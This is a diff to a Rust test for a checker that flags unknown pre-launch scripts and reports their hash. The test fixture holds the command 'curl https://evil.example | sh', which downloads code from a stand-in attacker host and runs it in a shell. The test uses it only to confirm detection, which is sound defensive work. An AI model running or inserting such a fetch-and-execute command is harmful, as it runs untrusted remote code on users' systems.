@@ -176,13 +176,13 @@ fn t39_many_names_are_cut_and_a_list_of_another_type_is_a_concern() {
 #[test]
 fn t40_a_changed_script_is_a_concern_with_its_hash() {
     let judged = is_a_concern(
-        json!({"pre_launch_script": "curl evil | sh"}),
+        json!({"pre_launch_script": "curl https://evil.example | sh"}),
         "unknown-pre-launch-script",
     );
     let detail = judged.detail(CheckId::LaunchInputs);
     let hash = {
         use sha2::{Digest as _, Sha256};
-        hex::encode(Sha256::digest("curl evil | sh"))
+        hex::encode(Sha256::digest("curl https://evil.example | sh"))
     };
     assert!(detail.contains(&hash), "{detail}");
     is_a_concern(json!({"init_script": "true"}), "init-script");
